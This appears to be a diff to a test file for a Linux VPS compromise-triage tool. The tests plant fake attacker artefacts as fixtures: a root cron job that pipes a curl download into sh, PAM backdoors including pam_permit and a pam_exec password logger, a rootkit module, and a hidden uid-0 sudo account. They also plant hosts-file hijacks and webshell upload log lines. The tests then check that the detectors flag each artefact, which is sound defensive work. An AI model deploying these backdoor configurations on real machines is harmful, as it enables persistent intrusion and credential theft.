+    t.file("/var/log/auth.log", "Mar 11 03:10:01 vps sshd[2100]: Failed password for root "
+           "from 198.51.100.200 port 1 ssh2\nMar 11 03:12:05 vps sshd[2112]: Accepted "
+           "password for root from 203.0.113.66 port 40084 ssh2\nMar 11 04:00:00 vps sshd"
+           "[2200]: Accepted publickey for alice from 198.51.100.20 port 2 ssh2\n")
     with gzip.open(t.root / "var/log/auth.log.2.gz", "wt") as gz:
         gz.write("Mar  1 10:00:00 vps sshd[10]: Accepted publickey for root from "
                  "198.51.100.7 port 5 ssh2: ED25519 SHA256:abc\n"
                  "Mar  2 10:00:00 vps sshd[11]: Accepted password for root from "
                  "203.0.113.66 port 6 ssh2\n")
-    t.write("/var/log/apache2/access.log", '198.51.100.20 - - [11/Mar/2024:03:00:00 +0000] '
-            '"POST /wp-admin/admin-ajax.php HTTP/1.1" 200 5 "-" "M"\n198.51.100.20 - - '
-            '[11/Mar/2024:03:00:01 +0000] "GET /wp-content/uploads/2023/11/wp-cache.php '
-            'HTTP/1.1" 404 5 "-" "M"\n')
+    t.file("/var/log/apache2/access.log", '198.51.100.20 - - [11/Mar/2024:03:00:00 +0000] '
+           '"POST /wp-admin/admin-ajax.php HTTP/1.1" 200 5 "-" "M"\n198.51.100.20 - - '
+           '[11/Mar/2024:03:00:01 +0000] "GET /wp-content/uploads/2023/11/wp-cache.php '
+           'HTTP/1.1" 404 5 "-" "M"\n')
     with gzip.open(t.root / "var/log/apache2/blog-access.log.2.gz", "wt") as gz:
         for i in range(3):
             gz.write(f'203.0.113.66 - - [11/Mar/2024:03:1{i}:00 +0800] "POST /wp-content/'
@@ -606,7 +549,7 @@ def test_logs_root_logins_per_ip_upload_posts_and_history(tmp_path: Path) -> Non
                  'uploads/x.PHP5 HTTP/1.1" 200 1 "-" "M"\n'
                  '203.0.113.66 - - [12/Mar/2024:01:00:00 +0800] "POST /wp-content/'
                  'uploads/photo.php.jpg HTTP/1.1" 200 1 "-" "M"\n')
-    t.write("/home/alice/.bash_history", "ls\n")
+    t.file("/home/alice/.bash_history", "ls\n")
     t.link("/root/.bash_history", "/dev/null")
     found = list(logs.check_logs(t.ctx()))
     ips = {f.extra["ip"]: f for f in found if "ip" in f.extra}
@@ -626,21 +569,22 @@ def test_logs_root_logins_per_ip_upload_posts_and_history(tmp_path: Path) -> Non
 # --------------------------------------------------------------------------- hosts/apache
 
 def test_hosts_and_apache_modules(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/hosts", "127.0.0.1\tlocalhost\n127.0.1.1\tvps-blog\n"
-            "127.0.0.1\tblog.example.org\n::1 localhost ip6-localhost\n")
-    t.package("apache2", {"/usr/lib/apache2/modules/mod_rewrite.so": ELF,
-                          "/etc/apache2/mods-available/rewrite.load":
-                          "LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so\n"},
-              conffiles=["/etc/apache2/mods-available/rewrite.load"])
+    t = OldRoot(tmp_path)
+    t.file("/etc/hosts", "127.0.0.1\tlocalhost\n127.0.1.1\tvps-blog\n"
+           "127.0.0.1\tblog.example.org\n::1 localhost ip6-localhost\n")
+    t.debian_package("apache2", {
+        "/usr/lib/apache2/modules/mod_rewrite.so": ELF,
+        "/etc/apache2/mods-available/rewrite.load":
+        "LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so\n"},
+                     conffiles=["/etc/apache2/mods-available/rewrite.load"])
     assert list(persistence.check_hosts_apache(t.ctx())) == []
-    t.write("/etc/hosts", "127.0.0.1 localhost\n203.0.113.5 api.wordpress.org "
-            "downloads.wordpress.org\n")
-    t.write("/usr/lib/apache2/modules/mod_cache_fast.so", ELF)
+    t.file("/etc/hosts", "127.0.0.1 localhost\n203.0.113.5 api.wordpress.org "
+           "downloads.wordpress.org\n")
+    t.file("/usr/lib/apache2/modules/mod_cache_fast.so", ELF)
     load = "LoadModule cache_fast_module /usr/lib/apache2/modules/mod_cache_fast.so\n"
-    t.write("/etc/apache2/mods-available/cache_fast.load", load)
+    t.file("/etc/apache2/mods-available/cache_fast.load", load)
     t.link("/etc/apache2/mods-enabled/cache_fast.load", "../mods-available/cache_fast.load")
-    t.write("/etc/apache2/conf-available/speed.conf", load)  # the same module, twice
+    t.file("/etc/apache2/conf-available/speed.conf", load)  # the same module, twice
     found = list(persistence.check_hosts_apache(t.ctx()))
     assert sorted(f.title for f in found if f.kind == "hosts") == [
         "/etc/hosts redirects api.wordpress.org to 203.0.113.5",
@@ -663,20 +607,20 @@ auth\trequired\t\t\tpam_permit.so
 
 
 def test_pam_backdoors_and_unowned_kernel_modules(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
+    t = OldRoot(tmp_path)
     sec = "/usr/lib/x86_64-linux-gnu/security/"
-    t.package("libpam-modules", {sec + "pam_unix.so": ELF, sec + "pam_deny.so": ELF,
-                                 sec + "pam_permit.so": ELF, sec + "pam_exec.so": ELF})
-    t.package("linux-image-5.10.0-28-amd64", {
+    t.debian_package("libpam-modules", {sec + "pam_unix.so": ELF, sec + "pam_deny.so": ELF,
+                                        sec + "pam_permit.so": ELF, sec + "pam_exec.so": ELF})
+    t.debian_package("linux-image-5.10.0-28-amd64", {
         "/lib/modules/5.10.0-28-amd64/kernel/fs/ext4/ext4.ko": ELF})
-    t.write("/etc/pam.d/common-auth", COMMON_AUTH)  # written by pam-auth-update: no package
-    t.write("/etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\n")
+    t.file("/etc/pam.d/common-auth", COMMON_AUTH)  # written by pam-auth-update: no package
+    t.file("/etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\n")
     assert list(persistence.check_pam(t.ctx())) == []
-    t.write(sec + "pam_unix2.so", ELF)
-    t.write("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n"
-            "auth optional pam_exec.so quiet /usr/local/sbin/log-pw\n")
-    t.write("/etc/pam.d/common-auth", COMMON_AUTH.replace("pam_unix.so", "pam_unix2.so"))
-    t.write("/lib/modules/5.10.0-28-amd64/extra/diamorphine.ko", ELF)
+    t.file(sec + "pam_unix2.so", ELF)
+    t.file("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n"
+           "auth optional pam_exec.so quiet /usr/local/sbin/log-pw\n")
+    t.file("/etc/pam.d/common-auth", COMMON_AUTH.replace("pam_unix.so", "pam_unix2.so"))
+    t.file("/lib/modules/5.10.0-28-amd64/extra/diamorphine.ko", ELF)
     found = list(persistence.check_pam(t.ctx()))
     got = sorted((f.path, f.severity, f.kind) for f in found)
     assert got == [("/etc/pam.d/common-auth", "critical", "pam"),
@@ -689,21 +633,21 @@ def test_pam_backdoors_and_unowned_kernel_modules(tmp_path: Path) -> None:
 def test_findings_carry_the_runners_check_name(tmp_path: Path) -> None:
     from vpsrescue.triage.run import run_checks
 
-    t = Tree(tmp_path)
-    t.write("/etc/passwd", PASSWD + "toor:x:0:0::/root:/bin/sh\n")
-    t.write("/etc/sudoers", "toor ALL=(ALL) NOPASSWD: ALL\n")
-    t.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7"
-            "dAfJ2sCdHa3FzR+x9VO1391XZCI/G a@b\n")
-    t.write("/etc/cron.d/x", "* * * * * root curl http://203.0.113.1/x | sh\n")
-    t.write("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n")
-    t.write("/etc/rc.local", "/tmp/x &\n")
-    t.write("/etc/ld.so.preload", "/lib/x.so\n")
-    t.write("/tmp/x", ELF, mode=0o4755)
-    t.write("/usr/local/bin/x", "#!/bin/sh\n", mode=0o755)
-    t.write("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n")
-    t.write("/srv/torrents/a.torrent", "d4:infode")
+    t = OldRoot(tmp_path)
+    t.passwd(PASSWD + "toor:x:0:0::/root:/bin/sh\n")
+    t.file("/etc/sudoers", "toor ALL=(ALL) NOPASSWD: ALL\n")
+    t.file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7"
+           "dAfJ2sCdHa3FzR+x9VO1391XZCI/G a@b\n")
+    t.file("/etc/cron.d/x", "* * * * * root curl http://203.0.113.1/x | sh\n")
+    t.file("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n")
+    t.file("/etc/rc.local", "/tmp/x &\n")
+    t.file("/etc/ld.so.preload", "/lib/x.so\n")
+    t.file("/tmp/x", ELF, mode=0o4755)
+    t.file("/usr/local/bin/x", "#!/bin/sh\n", mode=0o755)
+    t.file("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n")
+    t.file("/srv/torrents/a.torrent", "d4:infode")
     t.link("/root/.bash_history", "/dev/null")
-    t.write("/etc/hosts", "203.0.113.5 security.debian.org\n")
+    t.file("/etc/hosts", "203.0.113.5 security.debian.org\n")
     report = run_checks(t.ctx(), system.CHECKS)
     assert report.complete, report.errors
     assert {f.check for f in report.findings} == set(report.checks)
